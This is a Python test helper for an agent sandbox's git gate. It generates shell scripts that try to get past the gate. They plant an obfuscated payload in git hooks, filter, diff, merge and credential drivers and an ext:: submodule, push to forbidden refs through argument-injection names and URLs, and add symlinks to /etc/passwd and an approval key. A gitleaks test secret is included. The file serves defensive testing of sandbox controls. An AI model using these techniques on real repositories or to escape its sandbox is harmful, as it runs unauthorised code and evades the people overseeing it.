"""The git-gate cases' agent scripts (sh, run in the agent) and the forge/gate observers.

Planted code never holds the marker verbatim: it rebuilds it at run time with ``tr``
(rot13 of the letters), so the marker can appear on the forge or in the gate only if
something ran the planted code (or forwarded what must not be forwarded).
"""

from __future__ import annotations

import codecs
import subprocess
from pathlib import Path

from repo_bottle import FORGE_REPO, RepoBottle, docker

__all__ = [
    "GATE",
    "e50_script",
    "f54_script",
    "f56_script",
    "f57_script",
    "forge_text",
    "gate_files",
]

GATE = "http://git-gate:8070/app.git"
SECRET = "AKIA" + "QYLPMN5HZT3XW7KC"
"""A key gitleaks reports (the gate's own test secret), so the push is held."""
_CLONE = f"set -u; d=/tmp/$CASE; rm -rf $d; git clone -q {GATE} $d && cd $d || exit 9\n"


def _payload(marker: str) -> str:
    hidden = codecs.encode(marker, "rot13")
    return f"""#!/bin/sh
m=$(echo {hidden} | tr a-zA-Z n-za-mN-ZA-M)
touch /tmp/pwn-$m /var/lib/bot-bottle/gitgate/pwn-$m 2>/dev/null
git ls-remote git://forge.test/$m.git >/dev/null 2>&1
git push -q git://forge.test/app.git HEAD:refs/heads/pwn-$m >/dev/null 2>&1
cat
"""


def f57_script(marker: str) -> str:
    """Hooks, drivers, fsmonitor and an ext:: submodule pushed to allowed refs."""
    config = (
        "[core]\n\tfsmonitor = sh pwn.sh\n\thooksPath = hooks\n\tsshCommand = sh pwn.sh\n"
        '[filter "pwn"]\n\tclean = sh pwn.sh\n\tsmudge = sh pwn.sh\n\tprocess = sh pwn.sh\n'
        '[diff "pwn"]\n\tcommand = sh pwn.sh\n\ttextconv = sh pwn.sh\n'
        '[merge "pwn"]\n\tdriver = sh pwn.sh\n[credential]\n\thelper = !sh pwn.sh\n'
    )
    return (
        _CLONE.replace("$CASE", "f57")
        + f"""
cat > pwn.sh <<'BB_EOF'
{_payload(marker)}BB_EOF
chmod +x pwn.sh
mkdir -p hooks .githooks .husky
for h in pre-receive update post-receive post-update reference-transaction \\
         push-to-checkout pre-auto-gc fsmonitor-watchman; do
  cp pwn.sh hooks/$h; cp pwn.sh .githooks/$h
done
cp pwn.sh .husky/pre-commit
printf '* filter=pwn diff=pwn merge=pwn\\n' > .gitattributes
cat > config <<'BB_EOF'
{config}BB_EOF
cp config .gitconfig
printf '[include]\\n\\tpath = ../config\\n' > .lfsconfig
git add -A && git commit -qm planted
echo planted >> README && git commit -qam 'diff through the driver'
git push origin HEAD:refs/heads/bb/f57 2>&1; echo "rc=$?"
printf '[submodule "sub"]\\n\\tpath = sub\\n\\turl = ext::sh -c sh% pwn.sh\\n' > .gitmodules
git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub
git add .gitmodules && git commit -qm 'ext submodule'
git push origin HEAD:refs/heads/bb/f57-sub 2>&1; echo "rc=$?"
git fetch -q origin 2>&1; git clone -q --recurse-submodules {GATE} /tmp/f57b 2>&1; echo done
"""
    )


_BAD_REFS = (
    "refs/heads/--upload-pack=touch${IFS}/tmp/x",
    "refs/heads/-x",
    "refs/heads/bb/-x",
    "refs/heads/bb/--receive-pack=sh",
    "refs/heads/main",
    "refs/heads/bb",
    "refs/heads/bb/a/b",
    "refs/heads/BB/x",
    "refs/tags/bb/x",
    "refs/notes/commits",
    "refs/for/main",
    "refs/remotes/origin/bb/x",
    "refs/bb/x",
    "HEAD",
)
_BAD_URLS = (
    "http://git-gate:8070/app.git/../app.git",
    "http://git-gate:8070/./app.git",
    "http://git-gate:8070/%2e%2e/app.git",
    "http://git-gate:8070/APP.git",
    "http://git-gate:8070/app",
    "http://git-gate:8070//tmp/srv/app.git",
    "http://git-gate:8070/ext::sh%20-c%20true/app.git",
    "http://git-gate:8070/file:///tmp/srv/app.git",
    "http://git-gate:8070/git://forge.test/app.git",
    "http://--upload-pack=touch@git-gate:8070/app.git",
    "http://git-gate:8070/app.git?service=git-receive-pack",
    "git://forge.test/app.git",
    "git://git-gate/app.git",
    "ext::sh -c 'git push git://forge.test/app.git HEAD:refs/heads/bb/ext'",
    "file:///tmp/srv/app.git",
)


def f56_script(marker: str) -> str:
    """A marker commit pushed to refs outside push_refs, by odd names, URLs and options."""
    lines = [
        _CLONE.replace("$CASE", "f56"),
        f"echo {marker} > f56.txt && git add f56.txt && git commit -qm 'f56 {marker}'",
    ]
    push = "timeout 20 git -c protocol.allow=always"
    for ref in _BAD_REFS:
        lines.append(f'{push} push origin "HEAD:{ref}" 2>&1; echo "ref rc=$?"')
    for url in _BAD_URLS:
        lines.append(f'{push} push "{url}" HEAD:refs/heads/main 2>&1; echo "url rc=$?"')
    lines += [
        f'{push} push -o "--upload-pack=touch /tmp/x" -o "{marker}" origin HEAD:refs/heads/main'
        " 2>&1",
        f"{push} push origin :refs/heads/main 2>&1",
        f"{push} push --force origin HEAD:refs/heads/main 2>&1",
        f"{push} push --mirror origin 2>&1",
        f"{push} push --receive-pack='git receive-pack --upload-pack=x' origin "
        "HEAD:refs/heads/main 2>&1",
        "echo done",
    ]
    return "\n".join(lines) + "\n"


def e50_script() -> str:
    """Symlinks to gate and host paths, pushed to allowed refs (the tree, not the targets)."""
    targets = {
        "state": "/var/lib/bot-bottle/gitgate/e50-secret.txt",
        "tmp": "/tmp/e50-secret.txt",
        "rel": "../../../../../../../../var/lib/bot-bottle/gitgate/e50-secret.txt",
        "key": "/run/bb/approval.key",
        "queue": "/var/lib/bot-bottle/queue",
        "config": "/etc/bb-gitgate/gate.yaml",
        "passwd": "/etc/passwd",
        ".gitattributes": "/var/lib/bot-bottle/gitgate/e50-secret.txt",
        ".gitleaksignore": "/var/lib/bot-bottle/gitgate/e50-secret.txt",
        ".mailmap": "/var/lib/bot-bottle/gitgate/e50-secret.txt",
    }
    links = "\n".join(f"ln -s {t} {name}" for name, t in targets.items())
    return (
        _CLONE.replace("$CASE", "e50")
        + f"""{links}
mkdir -p dir && ln -s /var/lib/bot-bottle/gitgate dir/state
git add -A && git commit -qm 'symlinks' && git push origin HEAD:refs/heads/bb/e50 2>&1
echo "rc=$?"
# git add refuses a symlinked .gitmodules; plumbing builds the tree anyway
b=$(printf /var/lib/bot-bottle/gitgate/e50-secret.txt | git hash-object -w --stdin)
t=$( (git ls-tree HEAD; printf '120000 blob %s\\t.gitmodules\\n' $b) | git mktree)
c=$(git commit-tree $t -p HEAD -m 'symlinked gitmodules')
git push origin $c:refs/heads/bb/e50-gm 2>&1; echo "rc=$?"
"""
    )


def f54_script(case: str, marker: str, ready: str = "", force: str = "") -> str:
    """A commit with a gitleaks finding and ``marker``, pushed to bb/f54 (held by the gate).

    The second push (``ready`` set) is a sibling of the first, forced (``force="+"``), so
    only a gate that forwards refs instead of the scanned commit ids could land it.
    """
    return (
        _CLONE.replace("$CASE", case)
        + f"""
printf 'KEY = "{SECRET}"\\n# {marker}\\n' > config.py
git add config.py && git commit -qm '{case} {marker}'
git rev-parse HEAD > /tmp/{case}.sha
{ready}timeout 150 git push origin {force}HEAD:refs/heads/bb/f54 2>&1; echo "rc=$?"
"""
    )


def forge_text(bottle: RepoBottle) -> str:
    """What the outside saw: the forge's refs, every object it holds (reachable or not) and
    its daemon log, plus the bottle's egress audit log (the proxy, should anything try it)."""
    git = ("exec", bottle.forge, "git", "--git-dir", FORGE_REPO)
    refs = docker(*git, "for-each-ref", "--format=%(refname) %(objectname)").stdout
    objects = subprocess.run(
        ["docker", *git, "cat-file", "--batch-all-objects", "--batch"],
        capture_output=True,
        timeout=120,
        check=False,
    ).stdout.decode(errors="replace")  # trees are binary
    logs = docker("logs", bottle.forge, check=False)
    audit = [
        p.read_text(errors="replace")
        for p in Path(bottle.env["BOT_BOTTLE_STATE_DIR"]).rglob("egress-audit*.jsonl")
    ]
    return "\n".join((refs, objects, logs.stdout, logs.stderr, *audit))


def gate_files(bottle: RepoBottle, container: str, marker: str) -> list[str]:
    """Paths in ``container`` whose name holds the marker (what planted code would leave)."""
    found = docker(
        "exec",
        "-u",
        "0",
        container,
        "find",
        "/",
        "-path",
        "/proc",
        "-prune",
        "-o",
        "-path",
        "/sys",
        "-prune",
        "-o",
        "-name",
        f"*{marker}*",
        "-print",
        check=False,
    )
    return found.stdout.split()
